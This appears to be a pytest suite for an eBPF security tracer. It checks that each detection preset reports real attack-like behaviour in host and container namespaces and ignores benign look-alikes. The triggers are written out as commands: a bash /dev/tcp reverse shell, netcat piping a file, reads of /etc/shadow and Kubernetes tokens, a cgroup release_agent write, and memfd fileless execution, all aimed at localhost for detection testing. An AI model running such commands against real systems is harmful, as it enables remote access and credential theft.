# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""Every bundled preset (-P NAME) against the real kernel: one trigger that
must be reported, with policy_name equal to the preset's name, and one
look-alike that must not, on the host and/or in a test container (new pid,
mount, net, uts, ipc and cgroup namespaces made with unshare), as the
preset's scope says.

Note on test containers: `unshare --fork ... sh -c SCRIPT` is how a test
container starts, so its own set-up is visible to some presets (unshare
mounts /proc in the new pid namespace, then executes sh): that is the
documented false positive of container runtimes.  The look-alike checks
below therefore name the exact process or path that must not be reported,
not just the test's tag."""
import json
import os
import re
import shlex
import shutil
import subprocess
import tempfile

from conftest import BIN, Tracer, find, in_container, mark, run

PY = "/usr/bin/python3"


def presets():
    r = subprocess.run([BIN, "--list-presets"], capture_output=True, text=True, check=True)
    return [line.split()[0] for line in r.stdout.splitlines() if line.strip()]


def hits(tr, name, pred=None, text=None):
    """process_kprobe events of preset `name` (checks policy_name) that
    contain `text` and satisfy `pred(body)`."""
    out = []
    for ev in find(tr.events(), kind="process_kprobe", text=text):
        b = ev["process_kprobe"]
        if b.get("policy_name") != name:
            continue
        if pred and not pred(b):
            continue
        out.append(b)
    return out


def proc(b):
    return b.get("process", {})


def is_host(b):
    return proc(b).get("ns", {}).get("pid", {}).get("is_host", False)


def args_text(b):
    return json.dumps(b.get("args", []))


def brief(bs):
    return [(proc(b).get("binary"), proc(b).get("arguments", "")[:80], b.get("function_name"),
             args_text(b)[:200]) for b in bs[:3]]


def sh(cmd, timeout=30):
    return run(["sh", "-c", cmd], timeout=timeout)


def ran(tr, tag):
    """A look-alike's "not reported" only counts if it ran while the tracer
    watched: an exec carrying its tag (exec events are always on)."""
    assert find(tr.events(), "process_exec", text=tag), f"look-alike {tag} never ran"


def ok(r):
    """A look-alike's command must succeed (it did what it stands for)."""
    assert r.returncode == 0, (r.args, r.returncode, r.stderr[-300:])
    return r


# --- every preset is listed, plans on this kernel, and names itself --------

ALL = ["reverse-shell", "suspicious-commands", "sensitive-files", "container-escape",
       "k8s-token", "k8s-api", "docker-socket", "container-recon", "container-shell",
       "fileless", "fifo"]


def test_all_presets_listed_and_plan():
    have = presets()
    for name in ALL:
        assert name in have, f"{name} missing from --list-presets: {have}"
    for name in have:
        r = run([BIN, "--check", "-P", name])
        assert r.returncode == 0, (name, r.stderr.decode()[-400:])
        out = r.stdout.decode()
        assert f'policy "{name}"' in out, (name, out[:200])


def test_pruned_hooks_are_what_the_kernel_makes(monkeypatch):
    """Every hook copy loads pruned of what its rodata leaves dead
    (bpf/load/prune.c). TRACER_PRUNE_CHECK=1 loads each again, unpruned
    but with the same subprogram copies, and fails the start unless the
    kernel's final programs are identical: the pruning removes only what
    the verifier would. The pruned program is the same on every kernel;
    the comparison needs a verifier that decides at least what prune.c
    decides, whatever the layout: 6.12 and later (this machine's 6.18; in
    the VMs 5.10 keeps more dead code in the reference, 6.1 sometimes some
    in the pruned one). Elsewhere the pruned programs must load and, on a
    rung that loads copies, every load be pruned (kprobes load as objects
    of their own). Every preset at once, then the seed policies."""
    root = os.path.dirname(os.path.abspath(__file__))
    seed = os.path.join(root, "..", "..", "policy", "examples") + "/"
    rel = tuple(int(x) for x in re.match(r"(\d+)\.(\d+)", os.uname().release).groups())
    if rel >= (6, 12):
        monkeypatch.setenv("TRACER_PRUNE_CHECK", "1")
    for args in ([a for n in ALL for a in ("-P", n)], ["-p", seed]):
        with Tracer(*args, "-q", "-v") as t:
            pass
        err = t.stderr()
        assert "prune check" not in err, err[-800:]
        m = re.search(r"hooks: (\d+) program loads, \d+ attachments; (\d+) pruned "
                      r"\((\d+) instructions to (\d+)\)", err)
        assert m, err[-800:]
        loads, pruned, before, after = map(int, m.groups())
        assert pruned <= loads
        if "kprobe" not in os.environ.get("TRACER_TEST_HOOKS", ""):
            assert pruned == loads > 0, err[-800:]
            assert after < before / 2, (before, after)


# --- reverse-shell (the wide suite is test_revshell.py) --------------------

def test_reverse_shell(tag):
    import socket
    import threading

    def listen():
        """Listening before it returns; what it saw lands in the dict."""
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        s.settimeout(8)
        seen = {"accepted": False, "received": b""}

        def serve():
            try:
                c, _ = s.accept()
                seen["accepted"] = True
                c.settimeout(3)
                c.sendall(b"exit\n")
                while d := c.recv(4096):
                    seen["received"] += d
            except OSError:
                pass
            finally:
                s.close()
        th = threading.Thread(target=serve, daemon=True)
        th.start()
        return s.getsockname()[1], th, seen

    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
        p1, t1, s1 = listen()
        sh(f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p1} 0>&1'", timeout=15)
        t1.join(5)
        p2, t2, s2 = listen()
        ok(sh(f"nc.traditional -q 1 127.0.0.1 {p2} < /etc/hostname", timeout=15))
        t2.join(5)
    assert s1["accepted"], "the reverse shell never connected"
    # the look-alike must have happened: the listener got the file
    assert s2["accepted"] and s2["received"] == open("/etc/hostname", "rb").read(), s2
    assert hits(tr, "reverse-shell", text=f'"dport": {p1}') or \
        hits(tr, "reverse-shell", text=str(p1)), "bash /dev/tcp not reported"
    assert not hits(tr, "reverse-shell", text=str(p2)), "nc < file reported"


# --- suspicious-commands -----------------------------------------------------

def test_suspicious_commands_host_and_container(tag):
    t_host, t_ct, n_host, n_ct = mark("sch"), mark("scc"), mark("snh"), mark("snc")
    with Tracer("-o", "json", "-P", "suspicious-commands") as tr:
        sh(f"/usr/bin/curl -s -m 1 http://127.0.0.1:9/{t_host} || true")
        in_container(f"/usr/bin/wget -q -T 1 http://127.0.0.1:9/{t_ct} || true")
        # look-alikes: a shell on the host (host list has no shells), a
        # plain program in a container
        ok(sh(f"/usr/bin/dash -c 'true {n_host}'"))
        ok(in_container(f"/usr/bin/true {n_ct}"))
    # the executed file is the linux_binprm argument; the process is the
    # caller on fentry/LSM (before the exec) and the new image on the
    # equivalent (after it), so only the argument is asserted
    h = hits(tr, "suspicious-commands", text=t_host,
             pred=lambda b: "/usr/bin/curl" in args_text(b))
    assert h and is_host(h[0]) is True, "host curl not reported"
    c = hits(tr, "suspicious-commands", text=t_ct,
             pred=lambda b: "/usr/bin/wget" in args_text(b))
    assert c and is_host(c[0]) is False, "container wget not reported"
    ran(tr, n_host)
    ran(tr, n_ct)
    bad = hits(tr, "suspicious-commands", text=n_host)
    assert not bad, f"host shell reported: {brief(bad)}"
    bad = hits(tr, "suspicious-commands", text=n_ct,
               pred=lambda b: "/usr/bin/true" in args_text(b))
    assert not bad, f"container true reported: {brief(bad)}"


# --- sensitive-files ---------------------------------------------------------

def test_sensitive_files_scopes(tag):
    h1, h2, c1, c2, n1, n2, n3 = (mark(p) for p in ("sfh", "sfk", "sfc", "sft", "sfn", "sfs", "sfp"))
    ssh = f"/root/.ssh/{h2}"
    os.makedirs("/root/.ssh", exist_ok=True)
    with open(ssh, "w") as f:
        f.write("x\n")
    try:
        with Tracer("-o", "json", "-P", "sensitive-files") as tr:
            # triggers: universal list on the host, host list, universal list
            # in a container, container list (a service-account file on a
            # tmpfs over the container's own /run)
            sh(f"cat /etc/shadow /nonexistent-{h1} > /dev/null 2>&1")
            sh(f"cat {ssh} > /dev/null")
            in_container(f"cat /etc/shadow /nonexistent-{c1} > /dev/null 2>&1; true")
            in_container("mount -t tmpfs none /run && mkdir -p /run/secrets/kubernetes.io/serviceaccount && "
                         f"echo x > /run/secrets/kubernetes.io/serviceaccount/{c2} && "
                         f"cat /var/run/secrets/kubernetes.io/serviceaccount/{c2} >/dev/null; true")
            # look-alikes: ordinary files, /etc/passwd (left out on purpose),
            # and the host-only list read in a container
            sh(f"cat /etc/hostname /etc/passwd /nonexistent-{n1} > /dev/null 2>&1")
            in_container(f"cat /etc/hostname /nonexistent-{n2} > /dev/null 2>&1; true")
            in_container(f"cat {ssh} /nonexistent-{n3} > /dev/null 2>&1; true")
    finally:
        os.unlink(ssh)
    a = hits(tr, "sensitive-files", text=h1, pred=lambda b: proc(b).get("binary") == "/usr/bin/cat")
    assert a and "/etc/shadow" in args_text(a[0]) and is_host(a[0]) is True, "host /etc/shadow"
    assert hits(tr, "sensitive-files", text=h2), "host /root/.ssh/ file"
    c = hits(tr, "sensitive-files", text=c1)
    assert c and is_host(c[0]) is False, "container /etc/shadow"
    k = hits(tr, "sensitive-files", pred=lambda b: c2 in args_text(b))
    assert k and f"/run/secrets/kubernetes.io/serviceaccount/{c2}" in args_text(k[0]), \
        "container service-account file"
    for n in (n1, n2, n3):
        ran(tr, n)
        bad = hits(tr, "sensitive-files", text=n)
        assert not bad, f"look-alike {n} reported: {brief(bad)}"


# --- container-escape --------------------------------------------------------

def test_container_escape(tag, tmp_path):
    m, ra, fdw, ex = mark("cem"), mark("cer"), mark("cef"), mark("cex")
    nm, nr, nf = mark("cnm"), mark("cnr"), mark("cnf")
    d = f"/tmp/{m}"
    fexec = (f"{PY} -c \"import os; fd=os.open('/usr/bin/true', os.O_RDONLY); "
             f"pid=os.fork()\nif pid==0: os.execve(fd, ['true', '{ex}'], {{}})\nos.waitpid(pid,0)\"")
    with Tracer("-o", "json", "-P", "container-escape") as tr:
        # mount in a container
        in_container(f"mkdir -p {d} && mount -t tmpfs {m} {d}; umount {d}; rmdir {d}")
        # writes to notify_on_release / release_agent (by relative name too)
        in_container(f"mkdir -p /tmp/{ra} && cd /tmp/{ra} && echo 1 > notify_on_release && "
                     f"echo /x > /tmp/{ra}/release_agent; rm -rf /tmp/{ra}")
        # a directory fd walked through /proc/self/fd
        in_container(f"exec 7</; cat /proc/self/fd/7/etc/hostname /nonexistent-{fdw} >/dev/null 2>&1; true")
        # fexecve (execveat AT_EMPTY_PATH)
        in_container(fexec)
        # look-alikes: a mount on the host, reading notify_on_release, fd 1
        os.makedirs(f"/tmp/{nm}")
        ok(sh(f"mount -t tmpfs {nm} /tmp/{nm} && umount /tmp/{nm} && rmdir /tmp/{nm}"))
        # (the file is made by this host process: the container only reads it)
        os.makedirs(f"/tmp/{nr}")
        with open(f"/tmp/{nr}/notify_on_release", "w") as f:
            f.write("0\n")
        readback = ok(in_container(f"cat /tmp/{nr}/notify_on_release"))
        shutil.rmtree(f"/tmp/{nr}")
        wrote = ok(in_container(f"echo {nf} > /proc/self/fd/1"))
    assert wrote.stdout.strip() == nf.encode(), wrote.stdout
    assert readback.stdout == b"0\n", readback.stdout
    mt = hits(tr, "container-escape", pred=lambda b: b.get("function_name") == "security_sb_mount"
              and m in args_text(b) and proc(b).get("binary") == "/usr/bin/mount")
    assert mt and is_host(mt[0]) is False and "tmpfs" in args_text(mt[0]), "container mount"
    r = hits(tr, "container-escape", text=ra, pred=lambda b: "release_agent" in args_text(b))
    n = hits(tr, "container-escape", text=ra, pred=lambda b: "notify_on_release" in args_text(b))
    assert r and n, "release_agent / notify_on_release writes"
    f = hits(tr, "container-escape", text=fdw, pred=lambda b: "/proc/self/fd/7/" in args_text(b))
    assert f, "/proc/self/fd/7 walk"
    x = hits(tr, "container-escape", text=ex, pred=lambda b: "execveat" in b.get("function_name", ""))
    assert x, "execveat AT_EMPTY_PATH in a container"
    ran(tr, nm)
    ran(tr, nr)
    bad = hits(tr, "container-escape", text=nm)
    assert not bad, f"host mount reported: {brief(bad)}"
    bad = hits(tr, "container-escape", pred=lambda b: nr in args_text(b))
    assert not bad, f"read of notify_on_release reported: {brief(bad)}"
    bad = hits(tr, "container-escape", text=nf, pred=lambda b: "/proc/self/fd/1" in args_text(b))
    assert not bad, f"/proc/self/fd/1 reported: {brief(bad)}"


# --- k8s-token ---------------------------------------------------------------

SA = "/run/secrets/kubernetes.io/serviceaccount"


def sa_setup(stamp):
    """A kubelet-like service-account volume on a tmpfs over /run (the
    caller must be in its own mount namespace): token -> ..data/token,
    ..data -> ..STAMP/."""
    return (f"mount -t tmpfs none /run && mkdir -p {SA}/..{stamp} && "
            f"echo tok > {SA}/..{stamp}/token && echo ca > {SA}/..{stamp}/ca.crt && "
            f"ln -s ..{stamp} {SA}/..data && ln -s ..data/token {SA}/token && "
            f"ln -s ..data/ca.crt {SA}/ca.crt")


def test_k8s_token(tag):
    t, n1, n2 = mark("kt"), mark("kn"), mark("kh")
    with Tracer("-o", "json", "-P", "k8s-token") as tr:
        in_container(sa_setup(t) + f" && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; true")
        # look-alikes: ca.crt in a container; the token read by a host
        # process (own mount namespace, host pid namespace)
        ok(in_container(sa_setup(n1) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt"))
        ok(run(["unshare", "--mount", "sh", "-c",
                sa_setup(n2) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/token"]))
    cat = lambda b: proc(b).get("binary") == "/usr/bin/cat"  # noqa: E731 (the setup's own writes match too)
    h = hits(tr, "k8s-token", text=t, pred=cat)
    assert h, "service-account token read in a container not reported"
    assert f"..{t}/token" in args_text(h[0]) and is_host(h[0]) is False, brief(h)
    ran(tr, n1)
    ran(tr, n2)
    bad = hits(tr, "k8s-token", text=n1, pred=cat)
    assert not bad, f"ca.crt reported: {brief(bad)}"
    bad = hits(tr, "k8s-token", text=n2)
    assert not bad, f"host token read reported: {brief(bad)}"


# --- k8s-api -----------------------------------------------------------------

def connect(host, port, tag):
    """Prints 'connect E': 0 or 111 (refused) mean a SYN really went out."""
    return (f"{PY} -c \"import socket,sys; s=socket.socket(); s.settimeout(1)\n"
            f"print('connect', s.connect_ex(('{host}', {port})))\n# {tag}\"")


def connected(r):
    assert r.returncode == 0 and r.stdout.split()[-1] in (b"0", b"111"), (r.stdout, r.stderr[-300:])


def test_k8s_api(tag):
    t1, t2, n1, n2, n3 = mark("ka"), mark("kb"), mark("kn"), mark("ko"), mark("kh")
    with Tracer("-o", "json", "-P", "k8s-api") as tr:
        in_container(connect("127.0.0.1", 6443, t1))
        # the in-cluster API service: a ClusterIP on 443
        in_container("ip addr add 10.96.0.1/32 dev lo; " + connect("10.96.0.1", 443, t2))
        # look-alikes: 443 on a non-cluster address, another port, the host
        connected(in_container(connect("127.0.0.1", 443, n1)))
        connected(in_container(connect("127.0.0.1", 8080, n2)))
        connected(sh(connect("127.0.0.1", 6443, n3)))
    a = hits(tr, "k8s-api", text=t1)
    assert a and "6443" in args_text(a[0]) and is_host(a[0]) is False, "6443 from a container"
    b = hits(tr, "k8s-api", text=t2)
    assert b and "10.96.0.1" in args_text(b[0]), "ClusterIP:443 from a container"
    for n in (n1, n2, n3):
        ran(tr, n)
        bad = hits(tr, "k8s-api", text=n)
        assert not bad, f"look-alike {n} reported: {brief(bad)}"


# --- docker-socket -----------------------------------------------------------

def test_docker_socket(tag):
    t1, t2, n1, n2 = mark("ds"), mark("dc"), mark("dn"), mark("dh")
    opath = (f"{PY} -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.bind('/run/docker.sock')\n"
             f"try: os.open('/var/run/docker.sock', os.O_RDONLY)\nexcept OSError as e: print('opened', e.errno)\n"
             f"# {{}}\"")
    with Tracer("-o", "json", "-P", "docker-socket") as tr:
        in_container("mount -t tmpfs none /run && " + opath.format(t1))
        in_container(f"mkdir -p /tmp/{t2} && cp /usr/bin/true /tmp/{t2}/docker && /tmp/{t2}/docker; rm -rf /tmp/{t2}")
        # look-alikes: another socket in a container; the socket on the host
        looks = [in_container("mount -t tmpfs none /run && " + opath.replace("docker.sock", "other.sock").format(n1)),
                 run(["unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && " + opath.format(n2)])]
    for r in looks:  # the open was tried: a socket cannot be open()ed (ENXIO)
        assert ok(r).stdout.strip() == b"opened 6", r.stdout
    a = hits(tr, "docker-socket", text=t1)
    assert a and "/run/docker.sock" in args_text(a[0]) and is_host(a[0]) is False, "docker.sock open"
    assert hits(tr, "docker-socket", text=t2, pred=lambda b: "/docker" in args_text(b)), "docker CLI"
    for n in (n1, n2):
        ran(tr, n)
        bad = hits(tr, "docker-socket", text=n)
        assert not bad, f"look-alike {n} reported: {brief(bad)}"


# A unix-socket server for one connection (argv: its path): writes PATH.ready
# when listening and PATH.rec once it accepted, then answers like an HTTP API.
UNIX_SRV = ("import socket,sys\np=sys.argv[1]; s=socket.socket(socket.AF_UNIX); s.bind(p); s.listen(1)\n"
            "open(p+'.ready','w').close(); s.settimeout(10); c,_=s.accept(); open(p+'.rec','w').write('accepted')\n"
            "c.recv(4096); c.sendall(b'HTTP/1.0 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nOK'); c.close()")


def unix_case(path, client):
    """Shell text: a server on path, then the client once it listens."""
    return (f"mkdir -p {os.path.dirname(path)}; ({PY} -c {shlex.quote(UNIX_SRV)} {path} &); "
            f"i=0; while [ ! -e {path}.ready ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; "
            f"{client}; sleep 0.2")


def test_docker_socket_connect(tag):
    """connect(2) to a runtime socket, wherever mounted, is caught in a
    container (curl --unix-socket, a Python AF_UNIX client); another
    socket in a container, or docker.sock on the host, is not. Every
    server records the connection it accepted."""
    t1, t2, n1, n2 = mark("uc"), mark("up"), mark("un"), mark("uh")
    base = tempfile.mkdtemp(prefix="tracer-unix-")
    p = {t: f"{base}/{t}/{name}" for t, name in
         ((t1, "docker.sock"), (t2, "containerd.sock"), (n1, "other.sock"), (n2, "docker.sock"))}
    curl = "curl -s -m 5 --unix-socket {} http://localhost/_ping >/dev/null"
    pycl = PY + " -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'x'); s.recv(9)\""
    with Tracer("-o", "json", "-P", "docker-socket") as tr:
        in_container(unix_case(p[t1], curl.format(p[t1])))
        in_container(unix_case(p[t2], pycl.format(p[t2])))
        in_container(unix_case(p[n1], curl.format(p[n1])))
        sh(unix_case(p[n2], curl.format(p[n2])))
    for t in p:  # every client reached its server
        assert os.path.exists(p[t] + ".rec"), f"{p[t]}: the server saw no connection"
    shutil.rmtree(base, ignore_errors=True)
    for t, what in ((t1, "curl --unix-socket"), (t2, "python AF_UNIX client")):
        a = hits(tr, "docker-socket", text=t)
        assert a, f"{what} not reported"
        args = a[0]["args"]
        assert args[0]["sockaddr_arg"] == {"family": "AF_UNIX", "path": p[t]}, args
        assert a[0]["function_name"].endswith("sys_connect"), brief(a)
        assert is_host(a[0]) is False
    for n in (n1, n2):
        bad = hits(tr, "docker-socket", text=n)
        assert not bad, f"look-alike {n} reported: {brief(bad)}"


# --- container-recon ---------------------------------------------------------

def test_container_recon(tag):
    t1, t2, t3, n1, n2 = mark("cr"), mark("cd"), mark("cm"), mark("cn"), mark("ch")
    with Tracer("-o", "json", "-P", "container-recon") as tr:
        in_container(f"cat /proc/1/cgroup /nonexistent-{t1} >/dev/null 2>&1; true")
        in_container(f"ls /.dockerenv /nonexistent-{t2} >/dev/null 2>&1; true")
        in_container(f"cat /proc/self/mountinfo /nonexistent-{t3} >/dev/null 2>&1; true")
        # look-alikes: another /proc file in a container; the host's /proc/1/cgroup
        in_container(f"cat /proc/self/status /nonexistent-{n1} >/dev/null 2>&1; true")
        sh(f"cat /proc/1/cgroup /.dockerenv /nonexistent-{n2} >/dev/null 2>&1")
    a = hits(tr, "container-recon", text=t1)
    assert a and "/proc/1/cgroup" in args_text(a[0]) and is_host(a[0]) is False, "/proc/1/cgroup"
    assert hits(tr, "container-recon", text=t2, pred=lambda b: "/.dockerenv" in args_text(b)), "ls /.dockerenv"
    assert hits(tr, "container-recon", text=t3, pred=lambda b: "/mountinfo" in args_text(b)), "mountinfo"
    for n in (n1, n2):
        ran(tr, n)
        bad = hits(tr, "container-recon", text=n)
        assert not bad, f"look-alike {n} reported: {brief(bad)}"


# --- container-shell ---------------------------------------------------------

def test_container_shell(tag):
    t, n1, n2 = mark("cs"), mark("cn"), mark("ch")
    spawn = f"{PY} -c \"import os; os.system('true {{}}')\""
    with Tracer("-o", "json", "-P", "container-shell") as tr:
        in_container(spawn.format(t) + "; true")
        # look-alikes: a shell started by a shell in a container; a
        # non-shell starting a shell on the host
        ok(in_container(f"sh -c 'sh -c \"true {n1}\"; true'"))
        ok(sh(spawn.format(n2)))
    # the binary is the file executed: python3 shows as its symlink's target
    a = hits(tr, "container-shell", text=t, pred=lambda b: proc(b).get("binary") == os.path.realpath(PY))
    assert a and is_host(a[0]) is False and "/bin/sh" in args_text(a[0]), "python -> sh in a container"
    # the test container's own entry (unshare executing sh) is the documented
    # runtime false positive; nothing else may carry the look-alike's tag
    ran(tr, n1)
    ran(tr, n2)
    bad = hits(tr, "container-shell", text=n1,
               pred=lambda b: proc(b).get("binary") != "/usr/bin/unshare")
    assert not bad, f"sh -> sh reported: {brief(bad)}"
    bad = hits(tr, "container-shell", text=n2)
    assert not bad, f"host python -> sh reported: {brief(bad)}"


# --- fileless ----------------------------------------------------------------

MEMFD = (f"{PY} -c \"import os,sys; fd=os.memfd_create('x', 0); "
         f"os.write(fd, open('/usr/bin/true','rb').read())\n"
         f"os.execve({{how}}, ['memfd', '{{tag}}'], {{{{}}}})\"")


def test_fileless(tag):
    t1, t2, t3, n1 = mark("fp"), mark("fe"), mark("fc"), mark("fn")
    with Tracer("-o", "json", "-P", "fileless") as tr:
        sh(MEMFD.format(how="f'/proc/self/fd/{fd}'", tag=t1))
        sh(MEMFD.format(how="fd", tag=t2))
        in_container(MEMFD.format(how="f'/proc/self/fd/{fd}'", tag=t3) + "; true")
        # look-alike: the same program executed from its file
        ok(sh(f"{PY} -c \"import os; os.execve('/usr/bin/true', ['true', '{n1}'], {{}})\""))
    a = hits(tr, "fileless", text=t1, pred=lambda b: b.get("function_name") == "security_bprm_check")
    assert a and is_host(a[0]) is True, "memfd exec through /proc/self/fd"
    assert hits(tr, "fileless", text=t1, pred=lambda b: "/proc/self/fd/" in args_text(b)), "execve /proc/self/fd"
    assert hits(tr, "fileless", text=t2, pred=lambda b: "execveat" in b.get("function_name", "")), "fexecve"
    c = hits(tr, "fileless", text=t3)
    assert c and is_host(c[0]) is False, "memfd exec in a container"
    ran(tr, n1)
    bad = hits(tr, "fileless", text=n1)
    assert not bad, f"plain exec reported: {brief(bad)}"


# --- fifo --------------------------------------------------------------------

def test_fifo(tag, tmp_path):
    t1, t2, n1 = mark("ff"), mark("fc"), mark("fn")
    with Tracer("-o", "json", "-P", "fifo") as tr:
        sh(f"mkfifo {tmp_path}/{t1}; true")  # not the last command: dash would exec it in place of the shell
        in_container(f"mkfifo /tmp/{t2}; rm -f /tmp/{t2}")
        # look-alike: a FIFO made by a program whose parent is not a shell
        # (this Python process starts mkfifo directly)
        subprocess.run(["/usr/bin/mkfifo", f"{tmp_path}/{n1}"], check=True)
    a = hits(tr, "fifo", text=t1)
    assert a and proc(a[0]).get("binary") == "/usr/bin/mkfifo", brief(a)
    c = hits(tr, "fifo", text=t2)
    assert c and is_host(c[0]) is False, "mkfifo in a container"
    ran(tr, n1)
    bad = hits(tr, "fifo", text=n1)
    assert not bad, f"mkfifo without a shell parent reported: {brief(bad)}"
